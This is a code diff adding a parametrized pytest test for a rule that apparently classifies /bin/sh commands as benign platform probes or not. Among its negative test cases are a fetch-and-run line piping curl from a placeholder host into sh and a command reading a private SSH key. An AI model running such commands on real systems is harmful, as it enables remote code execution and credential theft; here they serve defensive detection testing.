@@ -295,3 +295,14 @@ def test_pip_build_env_installer_is_harness_only_under_pip() -> None:
     # the same argv exec'd by a candidate process is not exempt
     out2, _ = classify(events[2:], [], [pip], VENV)
     assert out2[1].origin is Origin.CANDIDATE
+
+
+@pytest.mark.parametrize("script,probe", [
+    ("uname -m", True), ("uname -s; uname -m", True), ("ldconfig -p | grep ssl", False),
+    ("getconf LONG_BIT", True), ("curl -s http://x.invalid | sh", False), ("uname > /tmp/x", False),
+    ("echo $(cat ~/.ssh/id_rsa)", False), ("python3 -c 'import os'", False),
+])
+def test_shell_probe_only(script: str, probe: bool) -> None:
+    o = obs([ev(EventKind.EXEC, "execve", path="/bin/sh", argv=("/bin/sh", "-c", script))])
+    f = next(f for f in evaluate(o) if f.rule_id == "PS003")
+    assert (f.severity is Severity.LOW) is probe
